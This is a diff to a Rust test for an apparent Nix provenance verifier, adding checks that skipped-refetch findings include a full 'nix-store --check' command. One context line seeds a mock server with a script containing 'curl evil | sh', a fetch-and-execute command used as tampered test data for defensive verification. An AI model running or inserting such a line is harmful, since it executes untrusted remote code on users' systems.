@@ -619,7 +619,12 @@ in derivation {{ name = "top"; system = builtins.currentSystem; builder = "/bin/
     // ...and an unpacking fetch cannot be checked from its download alone.
     assert!(findings(&report).contains(&("refetch-skipped".into(), channel_drv, String::new())), "{report:#}");
     // A flat fetch whose postFetch rewrites the download (fetchpatch) too.
-    assert!(findings(&report).contains(&("refetch-skipped".into(), patch_drv, String::new())), "{report:#}");
+    assert!(findings(&report).contains(&("refetch-skipped".into(), patch_drv.clone(), String::new())), "{report:#}");
+    // The advice is a whole command, for the same store.
+    let skipped = report["findings"].as_array().unwrap().iter();
+    let skipped = skipped.filter(|f| f["kind"] == "refetch-skipped").find(|f| f["path"] == patch_drv.as_str()).unwrap();
+    let advice = format!("`nix-store --store {} --realise --check {patch_drv}`", h.root().display());
+    assert!(skipped["detail"].as_str().unwrap().ends_with(&advice), "{skipped:#}");
 
     server.put("/bin/seed-tool", b"#!/bin/sh\ncurl evil | sh\n".to_vec());
     let o = provenix(h.root(), &["--json", "verify", "--refetch", &top]);
